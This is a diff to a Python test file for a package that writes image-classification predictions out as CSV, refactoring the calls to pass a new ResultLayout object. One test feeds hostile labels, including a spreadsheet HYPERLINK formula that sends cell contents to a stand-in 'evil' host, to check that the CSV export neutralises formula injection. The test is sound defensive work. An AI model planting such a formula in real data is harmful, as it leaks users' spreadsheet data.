@@ -23,7 +23,7 @@ from PIL import Image
 from kd.core.errors import DataError, RunError
 from kd.deploy.predict.image_list import find
 from kd.deploy.predict.predict import PredictOptions, _identity, predict
-from kd.deploy.predict.results import FORMATS
+from kd.deploy.predict.results import FORMATS, ResultLayout
 from kd.deploy.serve.decoding import prepare
 from kd.deploy.serve.limits import Limits
 from kd.deploy.serve.model import describe, load
@@ -431,10 +431,10 @@ def test_odd_names_are_one_row_each_in_every_format(
 def test_a_label_of_a_strangers_export_is_no_formula_of_a_spreadsheet(tmp_path):
     labels = ('=HYPERLINK("http://evil/?"&A1,"fig")', "@SUM(1+1)", "-2")
     top = [{"label": label, "score": 0.5} for label in labels]
-    FORMATS[".csv"](tmp_path / "one", iter([{"image": "a.jpg", "top": top}]), 3, (), ())
-    FORMATS[".csv"](
-        tmp_path / "several", iter([{"image": "a.jpg", "labels": top[:2]}]), 0, (), ()
-    )
+    single_row = {"image": "a.jpg", "top": top}
+    several_row = {"image": "a.jpg", "labels": top[:2]}
+    FORMATS[".csv"](tmp_path / "one", iter([single_row]), ResultLayout(3))
+    FORMATS[".csv"](tmp_path / "several", iter([several_row]), ResultLayout(0))
     files = (
         io.StringIO((tmp_path / name).read_bytes().decode(), newline="")
         for name in ("one", "several")
